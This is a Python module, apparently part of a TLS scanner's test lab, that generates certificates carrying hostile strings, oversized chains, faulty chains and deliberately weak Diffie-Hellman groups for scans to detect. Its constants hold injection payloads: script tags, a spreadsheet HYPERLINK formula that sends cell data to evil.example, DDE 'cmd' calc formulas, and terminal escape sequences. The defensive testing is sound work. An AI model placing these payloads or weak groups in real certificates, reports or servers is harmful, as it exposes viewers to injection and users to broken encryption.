"""Certificates for the hostile lab: hostile strings (invalid UTF-8 included), huge chains, extreme dates, and the
chains of common deployment faults (self-signed, unknown root, incomplete, out of order, expired intermediate, a CA
without basicConstraints) with what a scan must say of each (`Chain`).

cryptography only writes valid strings, so invalid UTF-8 is made by patching a same-length placeholder in
the DER of the to-be-signed part and signing that again with the issuer's key.
"""

from __future__ import annotations

import datetime as dt
import ipaddress
import math
import secrets
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import AuthorityInformationAccessOID, ExtendedKeyUsageOID, NameOID, ObjectIdentifier

from probe.lab.certs import LabCA
from probe.scan.dh import probable_prime, small_primes

INVALID_UTF8_PLACEHOLDER = "INVALIDUTF8PLACEHOLDER"
INVALID_UTF8_BYTES = b"bad\xff\xfe\xc3(\xed\xa0\x80end!!!!!\xf8\x88\x80\x80"  # same length as the placeholder
FILLER_OID = ObjectIdentifier("1.3.6.1.4.1.55555.1.1")

# Attacker-controlled text a certificate may carry (each lands in subject, issuer or SANs).
HOSTILE_CN = '<script>alert("cn")</script><img src=x onerror=alert(1)>'
HOSTILE_ORG = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_UNIT = "\x1b[31mRED\x1b[0m\x1b]0;pwned title\x07\nforged line\r\n+cmd|' /C calc'!A0"
HOSTILE_LOCALITY = "\u202egnp.exe\u202c @SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_SANS = ("<b>bold</b>.hostile.test", "=cmd.hostile.test", "line\nbreak.hostile.test", "\x1b[2Jclear.test")

assert len(INVALID_UTF8_BYTES) == len(INVALID_UTF8_PLACEHOLDER.encode())


def _key() -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())


def _write(der: bytes, key: ec.EllipticCurvePrivateKey | rsa.RSAPrivateKey, prefix: Path,
           extra_pem: bytes = b"") -> tuple[Path, Path]:
    """Write `<prefix>.pem` (the leaf, then `extra_pem`) and `<prefix>.key`."""
    cert_path, key_path = prefix.with_suffix(".pem"), prefix.with_suffix(".key")
    cert_path.write_bytes(_der_to_pem(der) + extra_pem)
    key_path.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    key_path.chmod(0o600)
    return cert_path, key_path


def _der_to_pem(der: bytes) -> bytes:
    import base64

    body = base64.encodebytes(der).replace(b"\n", b"")
    lines = [body[i : i + 64] for i in range(0, len(body), 64)]
    return b"-----BEGIN CERTIFICATE-----\n" + b"\n".join(lines) + b"\n-----END CERTIFICATE-----\n"


def _alt_names(names: tuple[str, ...]) -> x509.SubjectAlternativeName:
    general: list[x509.GeneralName] = []
    for name in names:
        try:
            general.append(x509.IPAddress(ipaddress.ip_address(name)))
        except ValueError:
            general.append(x509.DNSName(name))
    return x509.SubjectAlternativeName(general)


def _builder(subject: x509.Name, issuer: x509.Name, key: ec.EllipticCurvePrivateKey | rsa.RSAPrivateKey,
             not_before: dt.datetime,
             not_after: dt.datetime, sans: tuple[str, ...]) -> x509.CertificateBuilder:
    return (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(issuer)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(not_before)
        .not_valid_after(not_after)
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.SERVER_AUTH]), critical=False)
        .add_extension(_alt_names(sans), critical=False)
    )


def _now() -> dt.datetime:
    return dt.datetime.now(dt.UTC).replace(microsecond=0)


def issue_plain(ca: LabCA, host: str, prefix: Path, *, sans: tuple[str, ...] = (),
                not_before: dt.datetime | None = None, not_after: dt.datetime | None = None,
                extra_pem: bytes = b"", key: ec.EllipticCurvePrivateKey | rsa.RSAPrivateKey | None = None,
                ) -> tuple[Path, Path]:
    """A leaf for `host` from the lab CA (P-256 unless `key` is given; dates default to yesterday .. in a year)."""
    key = key or _key()
    now = _now()
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, host)])
    builder = _builder(name, ca.cert.subject, key, not_before or now - dt.timedelta(days=1),
                       not_after or now + dt.timedelta(days=365), sans or (host,))
    builder = builder.add_extension(
        x509.AuthorityKeyIdentifier.from_issuer_public_key(ca.key.public_key()), critical=False
    )
    cert = builder.sign(ca.key, hashes.SHA256())
    return _write(cert.public_bytes(serialization.Encoding.DER), key, prefix, extra_pem)


def _hostile_name() -> x509.Name:
    return x509.Name(
        [
            x509.NameAttribute(NameOID.COMMON_NAME, HOSTILE_CN),
            x509.NameAttribute(NameOID.ORGANIZATION_NAME, HOSTILE_ORG),
            x509.NameAttribute(NameOID.ORGANIZATIONAL_UNIT_NAME, HOSTILE_UNIT),
            x509.NameAttribute(NameOID.LOCALITY_NAME, HOSTILE_LOCALITY),
        ]
    )


def issue_hostile_strings(host: str, prefix: Path) -> tuple[Path, Path]:
    """A self-signed leaf whose subject and issuer carry HTML, formulas, ANSI escapes, newlines, RTL
    overrides; its SANs carry the same kinds of text and a name of invalid UTF-8 (OpenSSL refuses invalid
    UTF-8 in names at load, and cryptography refuses bad bytes in any name string when parsing)."""
    key = _key()
    now = _now()
    name = _hostile_name()
    builder = _builder(name, name, key, now - dt.timedelta(days=1), now + dt.timedelta(days=365),
                       (host, *HOSTILE_SANS, INVALID_UTF8_PLACEHOLDER + ".hostile.test"))
    cert = builder.sign(key, hashes.SHA256())
    tbs = cert.tbs_certificate_bytes
    placeholder = INVALID_UTF8_PLACEHOLDER.encode()
    assert tbs.count(placeholder) == 1, "one SAN holds the placeholder"
    patched = tbs.replace(placeholder, INVALID_UTF8_BYTES)
    signature = key.sign(patched, ec.ECDSA(hashes.SHA256()))
    der = _certificate_der(patched, _signature_algorithm_der(cert), signature)
    return _write(der, key, prefix)


def issue_huge_chain(ca: LabCA, host: str, prefix: Path, *, total_bytes: int = 300_000) -> tuple[Path, Path]:
    """A leaf from the lab CA served with filler certificates (big private extensions) up to `total_bytes`."""
    filler_key = _key()
    now = _now()
    pems: list[bytes] = []
    size = 0
    index = 0
    while size < total_bytes:
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, f"filler {index}.hostile.test")])
        filler = (
            x509.CertificateBuilder()
            .subject_name(name)
            .issuer_name(name)
            .public_key(filler_key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - dt.timedelta(days=1))
            .not_valid_after(now + dt.timedelta(days=365))
            .add_extension(x509.UnrecognizedExtension(FILLER_OID, bytes([0x04, 0x82, 0x0F, 0xA0]) + b"F" * 4000),
                           critical=False)
            .sign(filler_key, hashes.SHA256())
        )
        der = filler.public_bytes(serialization.Encoding.DER)
        size += len(der)
        pems.append(filler.public_bytes(serialization.Encoding.PEM))
        index += 1
    return issue_plain(ca, host, prefix, extra_pem=b"".join(pems))


def _read_element(data: bytes, offset: int) -> tuple[int, int]:
    """(start of content, end of element) of the DER element at `offset`."""
    length = data[offset + 1]
    start = offset + 2
    if length & 0x80:
        count = length & 0x7F
        length = int.from_bytes(data[start : start + count], "big")
        start += count
    return start, start + length


def _signature_algorithm_der(cert: x509.Certificate) -> bytes:
    der = cert.public_bytes(serialization.Encoding.DER)
    body, _ = _read_element(der, 0)
    _, tbs_end = _read_element(der, body)
    _, alg_end = _read_element(der, tbs_end)
    return der[tbs_end:alg_end]


def _der_length(length: int) -> bytes:
    if length < 0x80:
        return bytes([length])
    raw = length.to_bytes((length.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(raw)]) + raw


def _certificate_der(tbs: bytes, algorithm: bytes, signature: bytes) -> bytes:
    bit_string = b"\x00" + signature
    body = tbs + algorithm + b"\x03" + _der_length(len(bit_string)) + bit_string
    return b"\x30" + _der_length(len(body)) + body


# -- chains of common deployment faults ---------------------------------------------------------------------------

ChainKind = Literal[
    "self_signed", "unknown_root", "incomplete_chain", "wrong_order", "expired_intermediate", "no_basic_constraints",
]
Signer = ec.EllipticCurvePrivateKey | rsa.RSAPrivateKey


@dataclass(frozen=True)
class Chain:
    """A leaf and the chain a server sends with it, and what a scan trusting the lab root must say of it."""

    served: tuple[x509.Certificate, ...]  # leaf first, in the order the server sends them
    key: Signer  # the leaf's key
    reason: str | None  # the trust verdict's reason (None: trusted)
    ca: str | None  # the CA certificate the reason names
    in_order: bool  # each served certificate comes before its issuer
    missing: x509.Certificate | None = None  # the intermediate the server leaves out
    aia_url: str | None = None  # the leaf's AIA CA Issuers URL

    @property
    def pem(self) -> bytes:
        return b"".join(c.public_bytes(serialization.Encoding.PEM) for c in self.served)


def _lab_name(common_name: str) -> x509.Name:
    return x509.Name([x509.NameAttribute(NameOID.ORGANIZATION_NAME, "tlsprobe lab"),
                      x509.NameAttribute(NameOID.COMMON_NAME, common_name)])


def make_ca_cert(common_name: str, issuer: tuple[x509.Certificate, Signer] | None, *,
                 basic_constraints: bool = True, not_before: dt.datetime | None = None,
                 not_after: dt.datetime | None = None) -> tuple[x509.Certificate, ec.EllipticCurvePrivateKey]:
    """A P-256 CA certificate: a root when `issuer` is None, else an intermediate issued by it."""
    key = _key()
    now = _now()
    name = _lab_name(common_name)
    builder = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(issuer[0].subject if issuer else name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(not_before or now - dt.timedelta(days=30))
        .not_valid_after(not_after or now + dt.timedelta(days=730))
        .add_extension(x509.KeyUsage(False, False, False, False, False, True, True, False, False), critical=True)
        .add_extension(x509.SubjectKeyIdentifier.from_public_key(key.public_key()), critical=False)
    )
    if basic_constraints:
        builder = builder.add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
    if issuer is not None:
        builder = builder.add_extension(
            x509.AuthorityKeyIdentifier.from_issuer_public_key(issuer[1].public_key()), critical=False)
    return builder.sign(issuer[1] if issuer else key, hashes.SHA256()), key


def make_leaf(host: str, issuer: tuple[x509.Certificate, Signer], *, sans: tuple[str, ...] = (),
              aia_url: str | None = None, key: Signer | None = None) -> tuple[x509.Certificate, Signer]:
    """A server certificate for `host` issued by `issuer` (P-256 unless `key` is given), with an AIA CA Issuers
    URL when `aia_url` is set."""
    key = key or _key()
    now = _now()
    builder = _builder(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, host)]), issuer[0].subject, key,
                       now - dt.timedelta(days=1), now + dt.timedelta(days=365), sans or (host,))
    builder = builder.add_extension(
        x509.AuthorityKeyIdentifier.from_issuer_public_key(issuer[1].public_key()), critical=False)
    if aia_url:
        builder = builder.add_extension(x509.AuthorityInformationAccess([x509.AccessDescription(
            AuthorityInformationAccessOID.CA_ISSUERS, x509.UniformResourceIdentifier(aia_url))]), critical=False)
    return builder.sign(issuer[1], hashes.SHA256()), key


def fault_chain(kind: ChainKind, root: tuple[x509.Certificate, Signer], host: str, *,
                aia_url: str | None = None) -> Chain:
    """The served chain of one deployment fault, under the lab root `root` (the trust anchor of the scan)."""
    now = _now()
    if kind == "self_signed":
        own = _key()
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, host)])
        cert = _builder(name, name, own, now - dt.timedelta(days=1), now + dt.timedelta(days=365), (host,)).sign(
            own, hashes.SHA256())
        return Chain((cert,), own, "self_signed", cert.subject.rfc4514_string(), True)
    if kind == "unknown_root":
        other_root = make_ca_cert("tlsprobe other root CA", None)
        other_intermediate = make_ca_cert("tlsprobe other intermediate CA", other_root)
        leaf, key = make_leaf(host, other_intermediate)
        return Chain((leaf, other_intermediate[0], other_root[0]), key, "unknown_root",
                     other_root[0].subject.rfc4514_string(), True)
    if kind == "incomplete_chain":
        intermediate = make_ca_cert("tlsprobe lab intermediate CA", root)
        leaf, key = make_leaf(host, intermediate, aia_url=aia_url)
        return Chain((leaf,), key, "incomplete_chain", intermediate[0].subject.rfc4514_string(), True,
                     missing=intermediate[0], aia_url=aia_url)
    if kind == "wrong_order":
        policy = make_ca_cert("tlsprobe lab policy CA", root)
        issuing = make_ca_cert("tlsprobe lab issuing CA", policy)
        leaf, key = make_leaf(host, issuing)
        return Chain((leaf, policy[0], issuing[0]), key, None, None, False)
    if kind == "expired_intermediate":
        expired = make_ca_cert("tlsprobe lab expired intermediate CA", root, not_before=now - dt.timedelta(days=400),
                               not_after=now - dt.timedelta(days=2))
        leaf, key = make_leaf(host, expired)
        return Chain((leaf, expired[0]), key, "expired_in_chain", expired[0].subject.rfc4514_string(), True)
    if kind == "no_basic_constraints":
        unmarked = make_ca_cert("tlsprobe lab CA without basicConstraints", root, basic_constraints=False)
        leaf, key = make_leaf(host, unmarked)
        return Chain((leaf, unmarked[0]), key, "bad_basic_constraints", unmarked[0].subject.rfc4514_string(), True)
    raise ValueError(f"unknown chain kind {kind!r}")


def write_chain(chain: Chain, prefix: Path) -> tuple[Path, Path]:
    """`<prefix>.pem` (the served chain, in its order) and `<prefix>.key`."""
    return _write(chain.served[0].public_bytes(serialization.Encoding.DER), chain.key, prefix,
                  b"".join(c.public_bytes(serialization.Encoding.PEM) for c in chain.served[1:]))


def thousand_sans(host: str, count: int = 1000) -> tuple[str, ...]:
    """`host` and `count` more names under it: a certificate message of some 40 KB, several TLS records."""
    return (host, *(f"name-{i:04d}.{host}" for i in range(count)))


# -- DH groups a server should never use (generated at lab start) ------------------------------------------------

def _random_prime(bits: int, *, step: int = 1) -> int:
    """A random probable prime of exactly `bits` bits that is 1 mod `step` (step = 2 * r: r divides p - 1)."""
    primorial = _small_primorial()
    while True:
        if step == 1:
            candidate = secrets.randbits(bits) | (1 << (bits - 1)) | 1
        else:
            candidate = step * secrets.randbits(bits - step.bit_length()) + 1
        if candidate.bit_length() != bits or math.gcd(candidate, primorial) != 1:
            continue
        if pow(2, candidate - 1, candidate) == 1 and probable_prime(candidate):
            return candidate


def _small_primorial() -> int:
    return math.prod(p for p in small_primes(3000) if p > 2)


def composite_dh_group(bits: int = 2048) -> tuple[int, int]:
    """(p, g=2): p the product of two random primes of bits/2 bits, odd and of exactly `bits` bits."""
    while True:
        p = _random_prime(bits // 2) * _random_prime(bits - bits // 2)
        if p.bit_length() == bits:
            return p, 2


def small_subgroup_dh_group(bits: int = 2048, order: int = 65521) -> tuple[int, int]:
    """(p, g): p a random prime with `order` (a prime below 2^16) dividing p - 1, g of multiplicative order
    `order`: every DHE secret the server computes lies in a subgroup of `order` elements."""
    p = _random_prime(bits, step=2 * order)
    while True:
        g = pow(2 + secrets.randbelow(p - 3), (p - 1) // order, p)
        if g != 1:
            return p, g


def _der_integer(value: int) -> bytes:
    raw = value.to_bytes(value.bit_length() // 8 + 1, "big")  # a leading zero byte keeps it positive
    return b"\x02" + _der_length(len(raw)) + raw


def dh_params_pem(prime: int, generator: int) -> bytes:
    """PEM "DH PARAMETERS" (PKCS #3 DHParameter) of (p, g), as OpenSSL's load_dh_params reads them."""
    import base64

    body = _der_integer(prime) + _der_integer(generator)
    der = b"\x30" + _der_length(len(body)) + body
    encoded = base64.encodebytes(der).decode("ascii").replace("\n", "")
    lines = [encoded[i : i + 64] for i in range(0, len(encoded), 64)]
    return ("-----BEGIN DH PARAMETERS-----\n" + "\n".join(lines) + "\n-----END DH PARAMETERS-----\n").encode("ascii")
